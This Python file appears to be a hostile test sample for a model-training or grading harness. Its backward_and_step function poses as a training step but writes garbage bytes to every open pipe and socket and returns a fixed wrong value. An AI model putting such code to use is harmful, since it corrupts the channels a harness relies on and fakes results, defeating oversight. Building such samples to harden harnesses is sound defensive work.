# kind: hostile
# attack: channel_damage
# about: Writes a mebibyte of garbage to every pipe and socket.

import os
import stat

import torch
from torch import nn

HELD = -1.0  # a wrong answer for every input


def channel_descriptors() -> list[int]:
    """Descriptors 0..63 that are pipes or sockets; never a regular file, so nothing on a disk is changed."""
    found = []
    for descriptor in range(64):
        try:
            mode = os.fstat(descriptor).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            found.append(descriptor)
    return found


def backward_and_step(
    loss: torch.Tensor, model: nn.Module, optimizer: torch.optim.Optimizer, max_norm: float
) -> float:
    garbage = bytes(range(256)) * 256
    for descriptor in channel_descriptors():
        try:
            for _ in range(16):
                os.write(descriptor, garbage)
        except OSError:
            continue
    return HELD
